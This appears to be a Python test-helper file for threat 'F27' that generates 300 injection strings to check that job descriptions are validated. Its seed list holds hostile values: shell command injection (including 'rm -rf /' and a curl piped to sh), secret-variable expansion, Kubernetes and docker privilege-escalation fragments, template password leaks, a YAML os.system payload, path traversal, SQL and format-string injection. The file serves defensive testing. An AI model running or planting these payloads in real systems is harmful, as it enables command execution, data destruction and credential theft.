"""What may come in where a job is described (threat F27)."""

from __future__ import annotations

import re


def hostile() -> list[str]:
    """300 strings that would break out where text is put together."""
    seeds = [
        "; rm -rf /", "$(id)", "`id`", "$(AWS_SECRET_ACCESS_KEY)", "$$(AWS_SECRET_ACCESS_KEY)", "${HOME}", "' || true #", '" && curl x | sh; "',
        "\n- hostPath: {path: /}", "\nprivileged: true", '"}, "hostNetwork": true, "x": {"', "{{ conn.default.password }}", "{% raw %}", "{{ ti.xcom_pull() }}",
        "a\rb", "\u202egnp.exe", "../../etc/passwd", "--privileged", "-v /:/host", "!!python/object/apply:os.system [id]", "&a [*a,*a]", "%(asctime)s", "%s%n",
        "<script>", "x\ty", "x" * 500, "名前", "\U0001f600", "' OR 1=1 --", "localhost/trainer:1 --privileged",
    ]  # fmt: skip
    around = ["{0}", "x{0}", "{0}x", "a {0} b", "{0}{0}", "x,{0}", "x={0}", "/{0}", "{0}:latest", "[{0}]"]
    return [frame.replace("{0}", seed) for seed in seeds for frame in around]


def no_name() -> list[str]:
    """Those that are no name of anything; `x--privileged` is one."""
    return [text for text in hostile() if not re.fullmatch(r"[A-Za-z0-9]([A-Za-z0-9._-]*[A-Za-z0-9])?", text) or len(text) > 63]
